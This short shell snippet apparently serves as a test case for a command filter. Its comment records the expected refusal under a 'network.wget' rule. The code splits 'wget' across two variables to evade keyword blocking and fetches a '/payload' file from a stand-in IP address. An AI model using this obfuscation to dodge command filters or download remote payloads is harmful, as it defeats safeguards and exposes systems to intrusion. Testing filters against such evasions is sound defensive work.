# refused: network.wget 3
a=wg b=et
"$a$b" http://198.51.100.1/payload
